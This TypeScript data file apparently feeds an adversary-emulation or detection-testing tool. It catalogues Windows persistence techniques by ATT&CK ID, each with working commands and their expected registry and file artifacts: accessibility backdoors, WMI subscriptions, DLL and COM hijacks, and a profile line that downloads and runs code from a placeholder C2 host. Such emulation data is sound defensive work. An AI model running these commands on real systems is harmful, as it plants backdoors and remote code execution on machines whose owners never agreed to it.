import { HKCU_RUN, t, v } from "../dsl";

const IFEO = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options";
const WIN = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows";

/** Persistence, continued: event-triggered execution, autostart keys, authentication hooks, hijacks. */
export const persistence2 = [
  t("T1546", "Event triggered execution", "Execution tied to a system event (IFEO, WMI, accessibility).", [
    v(
      "ifeo-debugger",
      [
        {
          cmd: `reg add "${IFEO}\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f`,
          reg: [[`${IFEO}\\sethc.exe`, "Debugger", "C:\\Windows\\System32\\cmd.exe"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1546.001",
    "Change default file association",
    "A file-type handler pointed at a payload with assoc/ftype or the registry.",
    [
      v(
        "ftype",
        ["cmd.exe /c assoc .txt=txtfile", 'cmd.exe /c ftype txtfile=C:\\ProgramData\\{{rand}}.exe "%1"'],
        { elevated: true },
      ),
      v("reg-shell-open", [
        {
          cmd: 'reg add "HKCU\\Software\\Classes\\txtfile\\shell\\open\\command" /ve /t REG_EXPAND_SZ /d "C:\\Users\\Public\\{{rand}}.exe %1" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\txtfile\\shell\\open\\command",
              "(Default)",
              "C:\\Users\\Public\\{{rand}}.exe %1",
              "REG_EXPAND_SZ",
            ],
          ],
        },
      ]),
    ],
  ),
  t("T1546.002", "Screensaver", "SCRNSAVE.EXE set to a payload with reg.exe.", [
    v("reg-scrnsave", [
      {
        cmd: 'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /t REG_SZ /d "{{appdata}}\\{{rand}}.scr" /f',
        reg: [["HKCU\\Control Panel\\Desktop", "SCRNSAVE.EXE", "{{appdata}}\\{{rand}}.scr"]],
      },
      {
        cmd: 'reg add "HKCU\\Control Panel\\Desktop" /v ScreenSaveActive /t REG_SZ /d 1 /f',
        reg: [["HKCU\\Control Panel\\Desktop", "ScreenSaveActive", "1"]],
      },
    ]),
  ]),
  t(
    "T1546.003",
    "WMI event subscription",
    "A permanent WMI subscription (filter + CommandLineEventConsumer) made with PowerShell or wmic.",
    [
      // CIM cmdlets, as in the Atomic test and PowerSploit-era scripts: filter, consumer, then the binding.
      v(
        "new-ciminstance",
        [
          {
            ps: "$q = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240\"\n$f = New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='{{name}}'; EventNameSpace='root\\cimv2'; QueryLanguage='WQL'; Query=$q}\n$c = New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='{{name}}'; CommandLineTemplate='C:\\ProgramData\\{{name}}\\{{name}}.exe'}\nNew-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property @{Filter=[ref]$f; Consumer=[ref]$c}",
            then: [
              {
                id: "w",
                kind: "wmi.subscription",
                name: "{{name}}",
                query:
                  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240",
                consumerType: "CommandLineEventConsumer",
                destination: "C:\\ProgramData\\{{name}}\\{{name}}.exe",
              },
            ],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "set-wmiinstance",
        [
          {
            ps: "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='{{name}}';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}; $c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='{{name}}';CommandLineTemplate='powershell.exe -nop -w hidden -f C:\\ProgramData\\{{rand}}.ps1'}; Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}",
            then: [
              {
                id: "w",
                kind: "wmi.subscription",
                name: "{{name}}",
                query:
                  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
                consumerType: "CommandLineEventConsumer",
                destination: "powershell.exe -nop -w hidden -f C:\\ProgramData\\{{rand}}.ps1",
              },
            ],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "wmic",
        [
          {
            cmd: 'wmic /NAMESPACE:"\\\\root\\subscription" PATH __EventFilter CREATE Name="{{name}}", EventNameSpace="root\\cimv2",QueryLanguage="WQL", Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\'"',
          },
          {
            cmd: 'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="{{name}}", ExecutablePath="C:\\Windows\\Temp\\{{rand}}.exe",CommandLineTemplate="C:\\Windows\\Temp\\{{rand}}.exe"',
            then: [
              {
                id: "w",
                kind: "wmi.subscription",
                name: "{{name}}",
                query:
                  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
                consumerType: "CommandLineEventConsumer",
                destination: "C:\\Windows\\Temp\\{{rand}}.exe",
              },
            ],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1546.007", "Netsh helper DLL", "netsh add helper registers a DLL loaded by every netsh run.", [
    v(
      "netsh-add-helper",
      [
        {
          cmd: "netsh add helper C:\\Windows\\Temp\\{{rand}}.dll",
          reg: [["HKLM\\SOFTWARE\\Microsoft\\NetSh", "{{rand}}", "C:\\Windows\\Temp\\{{rand}}.dll"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1546.008", "Accessibility features", "sethc/utilman replaced or given an IFEO Debugger of cmd.exe.", [
    v(
      "ifeo-sethc",
      [
        {
          cmd: `reg add "${IFEO}\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f`,
          reg: [[`${IFEO}\\sethc.exe`, "Debugger", "C:\\windows\\system32\\cmd.exe"]],
        },
      ],
      { elevated: true },
    ),
    v(
      "ifeo-utilman",
      [
        {
          cmd: `reg add "${IFEO}\\utilman.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f`,
          reg: [[`${IFEO}\\utilman.exe`, "Debugger", "C:\\windows\\system32\\cmd.exe"]],
        },
      ],
      { elevated: true },
    ),
    v(
      "copy-sethc",
      [
        "takeown /f C:\\Windows\\System32\\sethc.exe",
        "icacls C:\\Windows\\System32\\sethc.exe /grant administrators:F",
        {
          cmd: "cmd.exe /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe",
          files: ["C:\\Windows\\System32\\sethc.exe"],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1546.009", "AppCert DLLs", "AppCertDLLs value under Session Manager.", [
    v(
      "reg-appcertdlls",
      [
        {
          cmd: 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\AppCertDLLs" /v {{name}} /t REG_EXPAND_SZ /d C:\\ProgramData\\{{rand}}.dll /f',
          // The key is absent on a default install, so reg.exe creates it first.
          regKeys: ["HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\AppCertDLLs"],
          reg: [
            [
              "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\AppCertDLLs",
              "{{name}}",
              "C:\\ProgramData\\{{rand}}.dll",
              "REG_EXPAND_SZ",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1546.010", "AppInit DLLs", "AppInit_DLLs with LoadAppInit_DLLs=1.", [
    v(
      "reg-appinit",
      [
        {
          cmd: `reg add "${WIN}" /v AppInit_DLLs /t REG_SZ /d "C:\\ProgramData\\{{rand}}.dll" /f`,
          reg: [[WIN, "AppInit_DLLs", "C:\\ProgramData\\{{rand}}.dll"]],
        },
        {
          cmd: `reg add "${WIN}" /v LoadAppInit_DLLs /t REG_DWORD /d 1 /f`,
          reg: [[WIN, "LoadAppInit_DLLs", "1", "REG_DWORD"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1546.011", "Application shimming", "A custom shim database installed with sdbinst.", [
    v(
      "sdbinst",
      [
        {
          cmd: "sdbinst.exe -q {{tools}}\\{{rand}}.sdb",
          files: ["C:\\Windows\\AppPatch\\Custom\\{{rand}}.sdb"],
          reg: [
            [
              "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB\\{{{rand2}}-0000-0000-0000-000000000000}",
              "DatabasePath",
              "C:\\Windows\\AppPatch\\Custom\\{{rand}}.sdb",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1546.012",
    "IFEO injection",
    "IFEO Debugger or SilentProcessExit MonitorProcess set for a common binary.",
    [
      v(
        "ifeo-debugger",
        [
          {
            cmd: `reg add "${IFEO}\\{{notepad|calc|msedge}}.exe" /v Debugger /d "C:\\ProgramData\\{{rand}}.exe" /f`,
            reg: [[`${IFEO}\\notepad.exe`, "Debugger", "C:\\ProgramData\\{{rand}}.exe"]],
          },
        ],
        { elevated: true },
      ),
      v(
        "silentprocessexit",
        [
          {
            cmd: `reg add "${IFEO}\\notepad.exe" /v GlobalFlag /t REG_DWORD /d 512 /f`,
            reg: [[`${IFEO}\\notepad.exe`, "GlobalFlag", "512", "REG_DWORD"]],
          },
          {
            cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe" /v MonitorProcess /d "C:\\ProgramData\\{{rand}}.exe" /f',
            reg: [
              [
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe",
                "MonitorProcess",
                "C:\\ProgramData\\{{rand}}.exe",
              ],
            ],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1546.013", "PowerShell profile", "profile.ps1 appended with a loader.", [
    v(
      "profile-append",
      [
        {
          ps: "Add-Content $PROFILE -Value 'Start-Process -WindowStyle Hidden C:\\ProgramData\\{{rand}}.exe'",
          files: ["{{home}}\\Documents\\WindowsPowerShell\\Microsoft.PowerShell_profile.ps1"],
        },
      ],
      { shell: "ps" },
    ),
    v(
      "allusers-profile",
      [
        {
          cmd: "cmd.exe /c echo IEX (iwr http://{{c2}}/p.ps1) >> C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\profile.ps1",
          files: ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\profile.ps1"],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1546.015",
    "COM hijacking",
    "A per-user InprocServer32 for a CLSID Windows loads (e.g. from scheduled tasks).",
    [
      // RomCom (2023): its dropper points the per-user PSFactoryBuffer proxy at the backdoor DLL, which every
      // process that marshals COM interfaces then loads.
      v(
        "romcom-psfactorybuffer",
        [
          {
            cmd: '"{{downloads}}\\{{name}}_setup.exe"',
            parent: "@explorer",
            files: ["C:\\Users\\Public\\Libraries\\prxyms{{n}}.dll"],
            reg: [
              [
                "HKCU\\Software\\Classes\\CLSID\\{c90250f3-4d7d-4991-9b69-a5c5bc1c2ae6}\\InProcServer32",
                "(Default)",
                "C:\\Users\\Public\\Libraries\\prxyms{{n}}.dll",
              ],
            ],
          },
          { by: "@explorer", loads: ["C:\\Users\\Public\\Libraries\\prxyms{{n}}.dll"] },
        ],
        { shell: "none" },
      ),
      v("reg-inprocserver", [
        {
          cmd: 'reg add "HKCU\\Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32" /ve /t REG_SZ /d "{{appdata}}\\{{rand}}.dll" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32",
              "(Default)",
              "{{appdata}}\\{{rand}}.dll",
            ],
          ],
        },
      ]),
      v(
        "new-item",
        [
          {
            ps: "New-Item -Path 'HKCU:\\Software\\Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocServer32' -Value '{{local}}\\{{rand}}.dll' -Force",
            reg: [
              [
                "HKCU\\Software\\Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocServer32",
                "(Default)",
                "{{local}}\\{{rand}}.dll",
              ],
            ],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1546.016",
    "Installer packages",
    "An MSI with a custom action run by msiexec from the user's profile.",
    [v("msiexec", ["msiexec /i {{downloads}}\\{{name}}.msi /qn"])],
  ),
  t("T1546.018", "Python startup hooks", "A .pth file in site-packages runs code at interpreter start.", [
    v(
      "pth",
      [
        {
          cmd: "cmd.exe /c echo import os;os.system('C:\\\\ProgramData\\\\{{rand}}.exe') > \"C:\\Program Files\\Python311\\Lib\\site-packages\\{{rand}}.pth\"",
          files: ["C:\\Program Files\\Python311\\Lib\\site-packages\\{{rand}}.pth"],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1547", "Boot or logon autostart", "Run key written to start a payload at logon.", [
    v("reg-run", [
      {
        cmd: `reg add ${HKCU_RUN} /v {{name}} /t REG_SZ /d "{{appdata}}\\{{name}}.exe" /f`,
        reg: [[HKCU_RUN, "{{name}}", "{{appdata}}\\{{name}}.exe"]],
      },
    ]),
  ]),
];
